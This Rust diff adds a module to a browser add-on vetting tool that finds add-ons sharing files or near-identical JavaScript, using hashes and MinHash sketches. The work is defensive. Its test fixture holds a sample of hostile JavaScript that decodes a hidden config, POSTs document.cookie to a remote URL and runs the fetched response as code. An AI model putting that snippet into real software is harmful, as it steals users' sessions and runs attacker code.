@@ -1,0 +1,566 @@
+//! Linked add-ons: which other cached add-ons, from any developer, carry the same files or
+//! near-identical code as the one under review. Coordinated abuse ships one payload under many
+//! names; a reviewer who sees the link reviews the family, not one member.
+//!
+//! Two kinds of evidence:
+//! - **Shared files** by sha256 (the cache's `files` view gives this for free). A file held by
+//!   many add-ons is a library (jQuery, a polyfill) and says little; it is weighted by inverse
+//!   popularity and flagged `library`, so rare overlaps rank first.
+//! - **Near-duplicate JavaScript**: a MinHash sketch of each JS blob's 5-token shingles, with
+//!   local (non-property) identifiers normalised to one placeholder so that renaming variables
+//!   keeps the sketch. The sketches' LSH band keys are rows of an indexed table, so a lookup is a
+//!   few index probes per file rather than a comparison with every cached file.
+//!
+//! Sketches are computed by [`catch_up`], which every lookup runs first: each JS blob is
+//! sketched once, whichever import brought it.
+
+use std::collections::{BTreeMap, HashMap, HashSet};
+
+use rusqlite::{Connection, TransactionBehavior, params};
+use serde::Serialize;
+use ts_rs::TS;
+
+use vetter_store::{Store, StoreError};
+use vetter_syntax::pretty::{Kind, js_tokens};
+
+/// Hash functions per sketch.
+pub const SKETCH_SIZE: usize = 128;
+/// LSH bands; `SKETCH_SIZE / BANDS` rows each. 32 bands of 4 make a pair with Jaccard 0.6 a
+/// candidate with probability 1 − (1 − 0.6⁴)³² ≈ 0.98, and one at 0.2 with about 0.05.
+const BANDS: usize = 32;
+const ROWS: usize = SKETCH_SIZE / BANDS;
+/// Tokens per shingle.
+const SHINGLE: usize = 5;
+/// Files with fewer shingles are too small to call near-duplicates of anything.
+pub const MIN_SHINGLES: usize = 40;
+/// Estimated Jaccard similarity from which two files count as near-duplicates.
+pub const NEAR_DUPLICATE: f64 = 0.6;
+/// Files smaller than this are ignored for shared-file evidence (empty files, one-line stubs).
+pub const MIN_SHARED_SIZE: u64 = 128;
+/// Tokens read per file; enough to sketch any real file, bounded for hostile ones.
+const MAX_TOKENS: usize = 4_000_000;
+
+/// Why a lookup failed.
+#[derive(Debug, thiserror::Error)]
+pub enum LinkError {
+    /// No cached add-on has this identity (or version id).
+    #[error("no cached add-on {0:?} (give its gecko id or the id of one of its versions)")]
+    UnknownAddon(String),
+    /// The cache could not be read.
+    #[error(transparent)]
+    Store(#[from] StoreError),
+}
+
+impl From<rusqlite::Error> for LinkError {
+    fn from(error: rusqlite::Error) -> Self {
+        LinkError::Store(StoreError::Sqlite(error))
+    }
+}
+
+/// One file held by both add-ons.
+#[derive(Debug, Clone, PartialEq, Serialize, TS)]
+#[ts(export)]
+pub struct SharedFile {
+    /// Its sha256.
+    pub sha256: String,
+    /// Its size in bytes.
+    #[ts(type = "number")]
+    pub size: u64,
+    /// Its path in the add-on under review.
+    pub path: String,
+    /// Its path in the other add-on.
+    pub other_path: String,
+    /// How many cached add-ons hold these exact bytes.
+    pub addons_with_it: u32,
+    /// Held by so many add-ons that it is taken for a library.
+    pub library: bool,
+}
+
+/// A JavaScript file of the other add-on that is nearly the same code.
+#[derive(Debug, Clone, PartialEq, Serialize, TS)]
+#[ts(export)]
+pub struct NearDuplicate {
+    /// The file in the add-on under review.
+    pub path: String,
+    /// The file in the other add-on.
+    pub other_path: String,
+    /// Estimated Jaccard similarity of their normalised shingles, 0 to 1.
+    pub similarity: f64,
+}
+
+/// Another add-on and what links it to the one under review.
+#[derive(Debug, Clone, PartialEq, Serialize, TS)]
+#[ts(export)]
+pub struct LinkedAddon {
+    /// Its identity.
+    pub guid: String,
+    /// Its latest name.
+    pub name: String,
+    /// Whether anything beyond libraries links them (a rare shared file or near-identical code).
+    pub linked: bool,
+    /// Ranking score: rare evidence weighs most.
+    pub score: f64,
+    /// Files with identical bytes.
+    pub shared_files: Vec<SharedFile>,
+    /// Near-identical JavaScript.
+    pub near_duplicates: Vec<NearDuplicate>,
+}
+
+/// Everything linked to one add-on, strongest first.
+#[derive(Debug, Clone, PartialEq, Serialize, TS)]
+#[ts(export)]
+pub struct LinkReport {
+    /// The add-on under review.
+    pub guid: String,
+    /// Cached add-ons in all.
+    pub addons_in_cache: u32,
+    /// A file is taken for a library when at least this many add-ons hold it.
+    pub library_threshold: u32,
+    /// The other add-ons, linked ones first, then by score.
+    pub links: Vec<LinkedAddon>,
+}
+
+/// How many add-ons must hold a file for it to count as a library: at least 3, and at least
+/// 5% of the cache, so a big cache does not call a ten-member campaign's payload a library.
+pub fn library_threshold(addons: u32) -> u32 {
+    3.max(addons.div_ceil(20))
+}
+
+fn mix(mut x: u64) -> u64 {
+    // splitmix64's finaliser: a fast, well-spread 64-bit mix.
+    x ^= x >> 30;
+    x = x.wrapping_mul(0xbf58_476d_1ce4_e5b9);
+    x ^= x >> 27;
+    x = x.wrapping_mul(0x94d0_49bb_1331_11eb);
+    x ^ (x >> 31)
+}
+
+fn fnv(bytes: &[u8]) -> u64 {
+    bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| {
+        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
+    })
+}
+
+/// The normalised token hashes of a JS text: comments dropped, local identifiers made one
+/// placeholder, property names (after `.`) and everything else kept.
+fn normalised(src: &str) -> Vec<u64> {
+    let mut out = Vec::new();
+    let mut after_dot = false;
+    for (kind, text) in js_tokens(src).take(MAX_TOKENS) {
+        let h = match kind {
+            Kind::LineComment | Kind::BlockComment => continue,
+            Kind::Word if !after_dot && !is_keyword(text) => fnv(b"\x01ident"),
+            _ => fnv(text.as_bytes()),
+        };
+        after_dot = kind == Kind::Punct && (text == "." || text == "?.");
+        out.push(h);
+    }
+    out
+}
+
+fn is_keyword(w: &str) -> bool {
+    matches!(
+        w,
+        "var"
+            | "let"
+            | "const"
+            | "function"
+            | "return"
+            | "if"
+            | "else"
+            | "for"
+            | "while"
+            | "do"
+            | "switch"
+            | "case"
+            | "default"
+            | "break"
+            | "continue"
+            | "new"
+            | "delete"
+            | "typeof"
+            | "instanceof"
+            | "in"
+            | "of"
+            | "this"
+            | "null"
+            | "undefined"
+            | "true"
+            | "false"
+            | "try"
+            | "catch"
+            | "finally"
+            | "throw"
+            | "class"
+            | "extends"
+            | "super"
+            | "import"
+            | "export"
+            | "async"
+            | "await"
+            | "yield"
+            | "void"
+            | "with"
+            | "eval"
+            | "Function"
+            | "window"
+            | "document"
+            | "chrome"
+            | "browser"
+    )
+}
+
+/// A MinHash sketch of the text's shingles, or `None` when it has too few.
+pub fn sketch(src: &str) -> Option<Vec<u64>> {
+    let toks = normalised(src);
+    if toks.len() < SHINGLE {
+        return None;
+    }
+    let shingles: HashSet<u64> = toks
+        .windows(SHINGLE)
+        .map(|w| w.iter().fold(0u64, |h, t| mix(h ^ *t)))
+        .collect();
+    if shingles.len() < MIN_SHINGLES {
+        return None;
+    }
+    let mut mins = vec![u64::MAX; SKETCH_SIZE];
+    for s in shingles {
+        for (i, m) in mins.iter_mut().enumerate() {
+            let v = mix(s ^ (i as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15));
+            if v < *m {
+                *m = v;
+            }
+        }
+    }
+    Some(mins)
+}
+
+/// Estimated Jaccard similarity of two sketches.
+pub fn similarity(a: &[u64], b: &[u64]) -> f64 {
+    let same = a.iter().zip(b).filter(|(x, y)| x == y).count();
+    same as f64 / a.len().max(1) as f64
+}
+
+fn band_keys(sketch: &[u64]) -> Vec<i64> {
+    sketch
+        .chunks(ROWS)
+        .enumerate()
+        .map(|(band, rows)| {
+            let h = rows.iter().fold(mix(band as u64 + 1), |h, v| mix(h ^ v));
+            h as i64
+        })
+        .collect()
+}
+
+fn encode(sketch: &[u64]) -> Vec<u8> {
+    sketch.iter().flat_map(|v| v.to_le_bytes()).collect()
+}
+
+fn decode(bytes: &[u8]) -> Option<Vec<u64>> {
+    (bytes.len() == SKETCH_SIZE * 8).then(|| {
+        bytes
+            .chunks_exact(8)
+            .map(|c| u64::from_le_bytes(c.try_into().unwrap_or([0; 8])))
+            .collect()
+    })
+}
+
+const JS_PATH: &str = "(path LIKE '%.js' OR path LIKE '%.mjs' OR path LIKE '%.cjs')";
+
+/// Sketches every JavaScript blob not sketched yet, in one transaction; returns how many.
+pub fn catch_up(store: &mut Store) -> Result<u64, LinkError> {
+    let conn = store.conn_mut();
+    let pending: Vec<i64> = {
+        let mut stmt = conn.prepare(&format!(
+            "SELECT DISTINCT blob_id FROM files WHERE {JS_PATH}
+             AND blob_id NOT IN (SELECT blob_id FROM minhash_sketch)"
+        ))?;
+        stmt.query_map([], |r| r.get(0))?
+            .collect::<Result<_, _>>()?
+    };
+    if pending.is_empty() {
+        return Ok(0);
+    }
+    let tx = conn.transaction_with_behavior(TransactionBehavior::Immediate)?;
+    let mut done = 0;
+    // Pending blobs come oldest first, so a release's files are decoded once as the bases of the
+    // next release's deltas.
+    let mut blobs = vetter_store::BlobCache::default();
+    for id in pending {
+        let inserted = tx.execute(
+            "INSERT OR IGNORE INTO minhash_sketch (blob_id, sketch) VALUES (?1, NULL)",
+            [id],
+        )?;
+        if inserted == 0 {
+            continue;
+        }
+        let data = blobs.read(&tx, id)?;
+        if let Some(s) = sketch(&String::from_utf8_lossy(&data)) {
+            tx.execute(
+                "UPDATE minhash_sketch SET sketch = ?2 WHERE blob_id = ?1",
+                params![id, encode(&s)],
+            )?;
+            for key in band_keys(&s) {
+                tx.execute(
+                    "INSERT OR IGNORE INTO minhash_band (band_key, blob_id) VALUES (?1, ?2)",
+                    params![key, id],
+                )?;
+            }
+        }
+        done += 1;
+    }
+    tx.commit()?;
+    Ok(done)
+}
+
+/// The identity of `addon`: a gecko id / `noid:` identity, or the id of a cached version.
+fn resolve(conn: &Connection, addon: &str) -> Result<(i64, String), LinkError> {
+    let by_guid = conn.query_row(
+        "SELECT id, guid FROM addons WHERE guid = ?1",
+        [addon],
+        |r| Ok((r.get(0)?, r.get(1)?)),
+    );
+    match by_guid {
+        Ok(found) => return Ok(found),
+        Err(rusqlite::Error::QueryReturnedNoRows) => {}
+        Err(e) => return Err(e.into()),
+    }
+    if let Ok(version) = addon.parse::<i64>() {
+        let by_version = conn.query_row(
+            "SELECT a.id, a.guid FROM versions v JOIN addons a ON a.id = v.addon_id WHERE v.id = ?1",
+            [version],
+            |r| Ok((r.get(0)?, r.get(1)?)),
+        );
+        match by_version {
+            Ok(found) => return Ok(found),
+            Err(rusqlite::Error::QueryReturnedNoRows) => {}
+            Err(e) => return Err(e.into()),
+        }
+    }
+    Err(LinkError::UnknownAddon(addon.to_owned()))
+}
+
+/// The add-ons linked to `addon` (a gecko id, `noid:` identity, or a version id), over all its
+/// cached versions.
+pub fn links_for(store: &mut Store, addon: &str) -> Result<LinkReport, LinkError> {
+    let (addon_id, guid) = resolve(store.conn(), addon)?;
+    catch_up(store)?;
+    let conn = store.conn();
+    let addons_in_cache: u32 = conn.query_row("SELECT count(*) FROM addons", [], |r| r.get(0))?;
+    let threshold = library_threshold(addons_in_cache);
+
+    // The add-on's own blobs: id -> (path, sha256, size).
+    let mut own: BTreeMap<i64, (String, String, u64)> = BTreeMap::new();
+    {
+        let mut stmt = conn.prepare(
+            "SELECT f.blob_id, f.path, f.sha256, f.size FROM files f
+             JOIN versions v ON v.id = f.version_id WHERE v.addon_id = ?1 ORDER BY f.version_id DESC",
+        )?;
+        let rows = stmt.query_map([addon_id], |r| {
+            Ok((
+                r.get::<_, i64>(0)?,
+                r.get::<_, String>(1)?,
+                r.get::<_, String>(2)?,
+                r.get::<_, i64>(3)?,
+            ))
+        })?;
+        for row in rows {
+            let (id, path, sha, size) = row?;
+            own.entry(id)
+                .or_insert((path, sha, u64::try_from(size).unwrap_or(0)));
+        }
+    }
+
+    let mut others: HashMap<i64, LinkedAddon> = HashMap::new();
+    let popularity_of = |blob: i64| -> Result<u32, rusqlite::Error> {
+        conn.query_row(
+            "SELECT count(DISTINCT v.addon_id) FROM entries e JOIN versions v ON v.id = e.version_id
+             WHERE e.blob_id = ?1",
+            [blob],
+            |r| r.get(0),
+        )
+    };
+    let mut holders = conn.prepare(
+        "SELECT DISTINCT v.addon_id, a.guid, a.name, f.path FROM files f
+         JOIN versions v ON v.id = f.version_id JOIN addons a ON a.id = v.addon_id
+         WHERE f.blob_id = ?1 AND v.addon_id != ?2 ORDER BY f.path",
+    )?;
+    let entry = |others: &mut HashMap<i64, LinkedAddon>, id: i64, guid: String, name: String| {
+        others.entry(id).or_insert_with(|| LinkedAddon {
+            guid,
+            name,
+            linked: false,
+            score: 0.0,
+            shared_files: Vec::new(),
+            near_duplicates: Vec::new(),
+        });
+    };
+    let total = f64::from(addons_in_cache.max(2));
+    let mut popular: HashSet<i64> = HashSet::new();
+    for (&blob, (path, sha, size)) in &own {
+        if *size < MIN_SHARED_SIZE {
+            continue;
+        }
+        let pop = popularity_of(blob)?;
+        let library = pop >= threshold;
+        if library {
+            popular.insert(blob);
+        }
+        if pop < 2 {
+            continue;
+        }
+        let rows: Vec<(i64, String, String, String)> = holders
+            .query_map(params![blob, addon_id], |r| {
+                Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?))
+            })?
+            .collect::<Result<_, _>>()?;
+        let mut seen = HashSet::new();
+        for (other, oguid, oname, opath) in rows {
+            if !seen.insert(other) {
+                continue;
+            }
+            entry(&mut others, other, oguid, oname);
+            let link = others.get_mut(&other).expect("inserted above");
+            // Inverse popularity: a file two add-ons share says far more than one fifty share.
+            let weight = (total / f64::from(pop)).ln().max(0.05);
+            link.score += if library { weight * 0.1 } else { weight };
+            link.linked |= !library;
+            link.shared_files.push(SharedFile {
+                sha256: sha.clone(),
+                size: *size,
+                path: path.clone(),
+                other_path: opath,
+                addons_with_it: pop,
+                library,
+            });
+        }
+    }
+
+    // Near-duplicates of the add-on's non-library JS.
+    let mut sketch_of = conn.prepare("SELECT sketch FROM minhash_sketch WHERE blob_id = ?1")?;
+    let mut candidates = conn.prepare("SELECT blob_id FROM minhash_band WHERE band_key = ?1")?;
+    let mut best: HashMap<(i64, String), (String, f64)> = HashMap::new();
+    for (&blob, (path, _, _)) in &own {
+        if popular.contains(&blob) {
+            continue;
+        }
+        let Some(Some(bytes)) = sketch_of
+            .query_row([blob], |r| r.get::<_, Option<Vec<u8>>>(0))
+            .ok()
+        else {
+            continue;
+        };
+        let Some(mine) = decode(&bytes) else { continue };
+        let mut cand: HashSet<i64> = HashSet::new();
+        for key in band_keys(&mine) {
+            for id in candidates.query_map([key], |r| r.get::<_, i64>(0))? {
+                cand.insert(id?);
+            }
+        }
+        cand.remove(&blob);
+        for other_blob in cand {
+            let Some(Some(ob)) = sketch_of
+                .query_row([other_blob], |r| r.get::<_, Option<Vec<u8>>>(0))
+                .ok()
+            else {
+                continue;
+            };
+            let Some(theirs) = decode(&ob) else { continue };
+            let sim = similarity(&mine, &theirs);
+            if sim < NEAR_DUPLICATE || popularity_of(other_blob)? >= threshold {
+                continue;
+            }
+            let rows: Vec<(i64, String, String, String)> = holders
+                .query_map(params![other_blob, addon_id], |r| {
+                    Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?))
+                })?
+                .collect::<Result<_, _>>()?;
+            for (other, oguid, oname, opath) in rows {
+                entry(&mut others, other, oguid, oname);
+                let key = (other, path.clone());
+                let slot = best.entry(key).or_insert((opath.clone(), 0.0));
+                if sim > slot.1 {
+                    *slot = (opath, sim);
+                }
+            }
+        }
+    }
+    for ((other, path), (other_path, sim)) in best {
+        let link = others.get_mut(&other).expect("inserted with its candidate");
+        // Identical bytes are already counted as a shared file.
+        if link
+            .shared_files
+            .iter()
+            .any(|s| s.path == path && s.other_path == other_path)
+        {
+            continue;
+        }
+        link.linked = true;
+        link.score += sim * (total / 2.0).ln().max(1.0);
+        link.near_duplicates.push(NearDuplicate {
+            path,
+            other_path,
+            similarity: sim,
+        });
+    }
+    let mut links: Vec<LinkedAddon> = others.into_values().collect();
+    for l in &mut links {
+        l.shared_files
+            .sort_by(|a, b| (a.library, &a.path).cmp(&(b.library, &b.path)));
+        l.near_duplicates.sort_by(|a, b| {
+            b.similarity
+                .total_cmp(&a.similarity)
+                .then_with(|| a.path.cmp(&b.path))
+        });
+    }
+    links.sort_by(|a, b| {
+        b.linked
+            .cmp(&a.linked)
+            .then_with(|| b.score.total_cmp(&a.score))
+            .then_with(|| a.guid.cmp(&b.guid))
+    });
+    Ok(LinkReport {
+        guid,
+        addons_in_cache,
+        library_threshold: threshold,
+        links,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const CODE: &str = "function decode(payload, key) { var out = []; for (var i = 0; i < payload.length; i++) { out.push(String.fromCharCode(payload.charCodeAt(i) ^ key.charCodeAt(i % key.length))); } return out.join(''); } var cfg = decode(atob(data), 'k3y'); fetch(cfg.url, { method: 'POST', body: document.cookie }).then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });";
+
+    #[test]
+    fn renamed_identifiers_keep_the_sketch() {
+        let renamed = CODE
+            .replace("decode", "q")
+            .replace("payload", "a")
+            .replace("out", "b")
+            .replace("cfg", "z");
+        let a = sketch(CODE).unwrap();
+        let b = sketch(&renamed).unwrap();
+        assert!(similarity(&a, &b) > 0.95, "{}", similarity(&a, &b));
+    }
+
+    #[test]
+    fn different_code_sketches_apart() {
+        let other = "class Widget extends Base { constructor(el) { super(el); this.el = el; this.items = new Map(); } render() { const ul = document.createElement('ul'); for (const [k, v] of this.items) { const li = document.createElement('li'); li.textContent = k + ': ' + v; ul.appendChild(li); } this.el.replaceChildren(ul); } }";
+        let a = sketch(CODE).unwrap();
+        let b = sketch(other).unwrap();
+        assert!(similarity(&a, &b) < 0.3, "{}", similarity(&a, &b));
+    }
+
+    #[test]
+    fn tiny_files_are_not_sketched() {
+        assert!(sketch("a=1;").is_none());
+    }
+
+    #[test]
+    fn library_threshold_grows_with_the_cache() {
+        assert_eq!(library_threshold(4), 3);
+        assert_eq!(library_threshold(1000), 50);
+    }
+}
